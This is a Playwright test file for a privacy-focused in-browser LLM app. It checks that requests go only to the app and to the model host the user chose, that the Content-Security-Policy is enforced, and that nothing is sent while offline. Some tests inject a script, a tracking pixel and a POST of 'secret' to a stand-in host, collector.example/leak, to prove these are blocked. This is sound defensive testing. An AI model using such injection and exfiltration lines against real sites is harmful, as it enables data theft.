// Privacy: the app talks to nothing but itself and the model host the user chose, the
// Content-Security-Policy is on (in every page and in the served headers), and offline nothing
// reaches the network at all.
import { readdir, readFile } from 'node:fs/promises';
import { parseHeadersFile } from '../../scripts/serve.js';
import {
	addCustomModel,
	ask,
	expect,
	lastAnswer,
	loadModel,
	modelEntry,
	openApp,
	test,
	watchCsp,
	type Page,
	watchNetwork
} from './fixtures';

/** Requests that belong to the test harness, not to the app: the scripted engine's control channel. */
const HARNESS = /\/__test-engine\//;

/** Every request the page and its workers make, from now on. */
function recordRequests(page: Page): string[] {
	const urls: string[] = [];
	page.context().on('request', (request) => {
		if (!HARNESS.test(request.url())) urls.push(request.url());
	});
	return urls;
}

const origins = (urls: string[]) => [...new Set(urls.map((u) => new URL(u).origin))].sort();

test('chatting, comparing and browsing every page request nothing but the app itself, with no CSP violation', async ({
	page,
	testEngine
}) => {
	testEngine.script({ load: { steps: 2, stepMs: 10 }, chat: { tokens: ['Private', ' answer.'] } });
	const violations = await watchCsp(page);
	const requests = recordRequests(page);

	await openApp(page);
	await loadModel(page);
	await ask(page, 'My blood test results are private');
	await expect(await lastAnswer(page)).toContainText('Private answer.');

	await page.getByRole('link', { name: 'Compare' }).click();
	await page.getByTestId('model-slot-0').selectOption('SmolLM2-360M-Instruct-q4f32_1-MLC');
	await page.getByTestId('model-slot-1').selectOption('Qwen2.5-0.5B-Instruct-q4f32_1-MLC');
	await page.getByTestId('prompt').fill('Which is better?');
	await page.getByTestId('run').click();
	await expect(page.getByTestId('pane-stats')).toHaveCount(2);

	await page.getByRole('link', { name: 'Models' }).click();
	await expect(page.getByTestId('model-entry').first()).toBeVisible();
	await page.getByRole('link', { name: 'Documents' }).click();
	await page
		.getByTestId('embedding-model-select')
		.selectOption('snowflake-arctic-embed-s-q0f32-MLC-b4');
	await page.getByTestId('paste-text').fill('My private notes: the safe code is 7419.');
	await page.getByTestId('paste-add').click();
	// A compared model is still on the GPU: indexing asks before it unloads it.
	await page.getByTestId('indexing-make-way').click();
	await expect(page.locator('[data-testid="document"][data-status="ready"]')).toHaveCount(1);
	await page.getByTestId('document-query').fill('safe code');
	await page.getByTestId('document-search-submit').click();
	await expect(page.getByTestId('search-hit')).toHaveCount(1);
	await page.getByRole('link', { name: 'Device' }).click();
	await expect(page.getByTestId('device-panel')).toBeVisible();
	await page.reload();
	await expect(page.locator('html[data-hydrated]')).toBeAttached();

	expect(requests.length).toBeGreaterThan(5);
	expect(origins(requests)).toEqual([new URL(page.url()).origin]);
	expect(await violations()).toEqual([]);
});

test('a model download goes only to the host the user chose', async ({ page, modelServer }) => {
	const model = modelServer.addModel('Private-q4f32_1-MLC');
	const violations = await watchCsp(page);
	await openApp(page, '/models/');
	const requests = recordRequests(page);
	const referers: Array<Promise<string | null>> = [];
	page.context().on('request', (request) => {
		if (request.url().startsWith(model.baseUrl)) referers.push(request.headerValue('referer'));
	});
	await addCustomModel(page, model);
	const entry = modelEntry(page, model.modelId);
	await entry.getByRole('button', { name: 'Download' }).click();
	await expect(entry.getByTestId('ready-offline')).toBeVisible();

	const chosen = new URL(model.baseUrl).origin;
	expect(origins(requests)).toContain(chosen);
	for (const origin of origins(requests))
		expect([chosen, new URL(page.url()).origin]).toContain(origin);
	expect(await violations()).toEqual([]);
});

test('a custom model on a host this build does not allow is refused, saying how to allow it', async ({
	page
}) => {
	const requests = recordRequests(page);
	await openApp(page, '/models/');
	await page
		.getByTestId('custom-base-url')
		.fill('https://models.example.org/org/Tiny-q4f32_1-MLC/resolve/main/');
	await page.getByTestId('custom-library-url').fill('https://models.example.org/tiny.wasm');
	await page.getByTestId('custom-add').click();
	const error = page.getByTestId('custom-error');
	await expect(error).toContainText('https://models.example.org is blocked');
	await expect(error).toContainText('LANTERN_MODEL_HOSTS');
	await expect(error).toContainText('huggingface.co');
	expect(requests.filter((u) => u.includes('example.org'))).toEqual([]);
	await expect(page.getByTestId('custom-model')).toHaveCount(0);
});

test('the Content-Security-Policy is on: injected scripts do not run and other hosts cannot be reached', async ({
	page,
	context
}) => {
	let reachedOutside = false;
	await context.route('https://collector.example/**', (route) => {
		reachedOutside = true;
		return route.fulfill({ body: 'ok' });
	});
	const violations = await watchCsp(page);
	const response = await page.goto('/');
	await expect(page.locator('html[data-hydrated]')).toBeAttached();

	// The policy is in the page (for any static host) and in the headers (for hosts that read
	// _headers; the test server does).
	const meta = await page
		.locator('meta[http-equiv="content-security-policy"]')
		.getAttribute('content');
	expect(meta).toContain("script-src 'self' 'wasm-unsafe-eval' 'sha256-");
	expect(meta).not.toContain('unsafe-inline');
	expect(response?.headers()['content-security-policy']).toContain("frame-ancestors 'none'");

	const outcome = await page.evaluate(async () => {
		const w = window as unknown as { __ran?: boolean };
		const script = document.createElement('script');
		script.textContent = 'window.__ran = true';
		document.body.append(script);
		const img = document.createElement('img');
		img.src = 'https://collector.example/pixel.png';
		document.body.append(img);
		const fetched = await fetch('https://collector.example/leak', {
			method: 'POST',
			body: 'secret'
		}).then(
			() => 'sent',
			(e: Error) => e.name
		);
		return { ran: w.__ran === true, fetched };
	});
	expect(outcome).toEqual({ ran: false, fetched: 'TypeError' });
	await expect
		.poll(violations)
		.toEqual(
			expect.arrayContaining([
				'script-src-elem inline',
				'img-src https://collector.example/pixel.png',
				'connect-src https://collector.example/leak'
			])
		);
	expect(reachedOutside).toBe(false);
});

test('the engine worker is served with the same policy, so WebLLM too can reach only the model hosts', async ({
	page
}) => {
	const workers = await readdir('build/_app/immutable/workers');
	const worker = workers.find((name) => /^engine\.worker-.*\.js$/.test(name));
	expect(worker).toBeDefined();
	const response = await page.request.get(`/_app/immutable/workers/${worker}`);
	expect(response.status()).toBe(200);
	const policy = response.headers()['content-security-policy'] ?? '';
	expect(policy).toContain("'wasm-unsafe-eval'");
	expect(policy).toMatch(/connect-src 'self' https:\/\/huggingface\.co .*https:\/\/\*\.hf\.co/);
	expect(policy).not.toMatch(/unsafe-inline|unsafe-eval'(?<!wasm-unsafe-eval')/);
});

test('under the served policy a worker can compile WebAssembly and reach a model host, but not evaluate code or reach another host', async ({
	page,
	context
}) => {
	// A probe worker served with exactly the headers the build's _headers gives every file, as a
	// host would: what WebLLM needs works (wasm, model hosts), nothing else does.
	const [rule] = parseHeadersFile(await readFile('build/_headers', 'utf8'));
	const policy = rule?.headers['content-security-policy'] ?? '';
	expect(policy).not.toBe('');
	const probe = `
		const result = {};
		try { await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])); result.wasm = 'compiled'; }
		catch (e) { result.wasm = e.name; }
		try { new Function('return 1')(); result.evaluate = 'ran'; } catch (e) { result.evaluate = e.name; }
		result.modelHost = await fetch('https://huggingface.co/org/m/resolve/main/mlc-chat-config.json')
			.then(() => 'reached', (e) => e.name);
		result.otherHost = await fetch('https://collector.example/leak').then(() => 'reached', (e) => e.name);
		postMessage(result);`;
	await context.route('**/__csp-probe-worker.js', (route) =>
		route.fulfill({
			body: probe,
			headers: { 'content-type': 'text/javascript', 'content-security-policy': policy }
		})
	);
	const reached: string[] = [];
	for (const host of ['https://huggingface.co/**', 'https://collector.example/**']) {
		await context.route(host, (route) => {
			reached.push(new URL(route.request().url()).host);
			return route.fulfill({ body: '{}', headers: { 'access-control-allow-origin': '*' } });
		});
	}
	await openApp(page);
	const result = await page.evaluate(
		() =>
			new Promise((resolve) => {
				const worker = new Worker('/__csp-probe-worker.js', { type: 'module' });
				worker.onmessage = (event) => resolve(event.data);
			})
	);
	expect(result).toEqual({
		wasm: 'compiled',
		evaluate: 'EvalError',
		modelHost: 'reached',
		otherHost: 'TypeError'
	});
	expect(reached).toEqual(['huggingface.co']);
});

test.describe('offline', () => {
	test.use({ serviceWorkers: 'allow' });

	test('after one visit, browsing every page offline sends nothing to the network', async ({
		page,
		context
	}) => {
		await openApp(page);
		await expect(page.getByTestId('offline-ready')).toBeVisible({ timeout: 20_000 });
		await expect.poll(() => page.evaluate(() => !!navigator.serviceWorker.controller)).toBe(true);

		await context.setOffline(true);
		const network = watchNetwork(context);
		await page.reload();
		await expect(page.locator('html[data-hydrated]')).toBeAttached();
		for (const [name, ready] of [
			['Models', 'model-entry'],
			['Documents', 'document-list'],
			['Compare', 'compare-setup'],
			['Device', 'device-panel'],
			['Chat', 'composer']
		] as const) {
			await page.getByRole('link', { name, exact: true }).click();
			await expect(page.getByTestId(ready).first()).toBeVisible();
		}
		expect(await network.reached()).toEqual([]);
	});
});

test('a conversation with a server model sends requests only to that server; an in-browser one, with that server in the list, sends nothing anywhere', async ({
	page,
	testEngine,
	openaiServer
}) => {
	testEngine.script({ load: { steps: 2, stepMs: 10 }, chat: { tokens: ['Local', ' answer.'] } });
	const server = await openaiServer({
		flavour: 'ollama',
		models: [{ name: 'llama3.1:70b' }],
		script: { tokens: ['Server', ' answer.'] }
	});
	const violations = await watchCsp(page);
	await openApp(page, '/models/');
	await page.getByTestId('server-base-url').fill(server.url);
	await page.getByTestId('server-add').click();
	await expect(page.getByTestId('server-added')).toBeVisible();
	await openApp(page);
	const app = new URL(page.url()).origin;

	const toServer = recordRequests(page);
	await page.getByTestId('model-select').selectOption(`${new URL(server.url).host}/llama3.1:70b`);
	await page.getByTestId('load-model').click();
	await expect(page.getByTestId('model-ready')).toBeVisible();
	await ask(page, 'My salary is private');
	await expect(await lastAnswer(page)).toContainText('Server answer.');
	expect(origins(toServer).filter((o) => o !== app)).toEqual([server.origin]);
	expect(
		toServer.filter((u) => !u.startsWith(app)).every((u) => u.startsWith(`${server.url}/`))
	).toBe(true);
	const asked = server.requests.filter((r) => r.method === 'POST');
	expect(JSON.stringify(asked.at(-1)?.body)).toContain('My salary is private');

	const before = server.requests.length;
	const local = recordRequests(page);
	await page.getByTestId('new-chat').click();
	await loadModel(page);
	await ask(page, 'My diagnosis is private');
	await expect(await lastAnswer(page)).toContainText('Local answer.');
	expect(origins(local).filter((o) => o !== app)).toEqual([]);
	expect(server.requests.length).toBe(before);
	expect(await violations()).toEqual([]);
});
